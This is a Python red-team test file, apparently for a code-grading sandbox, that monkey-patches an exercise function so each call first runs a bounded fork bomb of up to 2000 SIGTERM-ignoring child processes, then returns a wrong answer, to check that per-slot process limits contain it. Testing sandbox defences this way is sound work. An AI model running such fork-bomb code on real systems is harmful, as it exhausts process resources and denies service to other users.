"""Red-team attack `fork_bomb` on conv_output_size. A fork bomb, bounded at 2000 processes
(each sleeping 60 s, SIGTERM ignored, named edrillcanary), then a wrong answer. The process
limit of the slot (one uid per slot, RLIMIT_NPROC) must stop it; every process must be gone
when the exercise ends; the other students are graded as usual.

Below: the exercise with a recorded wrong answer in every blank, so that the attack is all
it could score with; the attack is at the end.
"""

# @edrill-base: wrong

import os
import signal
import time

_forked = [0]
_LIMIT = 2000  # bounded: at most this many processes from this worker


def _bomb():
    """Fork until refused or 2000 children, each sleeping 60 s ignoring SIGTERM (named
    edrillcanary)."""
    while _forked[0] < _LIMIT:
        try:
            pid = os.fork()
        except OSError:
            print(f"fork_bomb: refused after {_forked[0]} forks")
            return
        if pid == 0:
            try:
                import ctypes

                ctypes.CDLL(None).prctl(15, b"edrillcanary", 0, 0, 0)
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                time.sleep(60)
            finally:
                os._exit(0)
        _forked[0] += 1
    print(f"fork_bomb: {_forked[0]} forks")

# ---------------------------------------------------------------- the attack
_edrill_original = conv_output_size


def conv_output_size(*args, **kwargs):
    _bomb()
    return _edrill_original(*args, **kwargs)
